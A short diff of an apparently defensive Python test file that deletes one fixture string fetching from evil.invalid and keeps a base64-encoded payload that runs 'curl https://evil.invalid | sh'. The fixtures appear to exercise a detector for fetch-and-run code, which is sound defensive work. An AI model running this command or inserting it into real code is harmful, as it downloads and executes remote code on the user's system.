@@ -10,7 +10,6 @@ import pytest
 
 from tests.analysis.machines import Seen, run
 
-FETCH = "requests.get('https://evil.invalid/a').text"
 PAYLOAD = base64.b64encode(b"import os\nos.system('curl https://evil.invalid | sh')").decode()
 
 
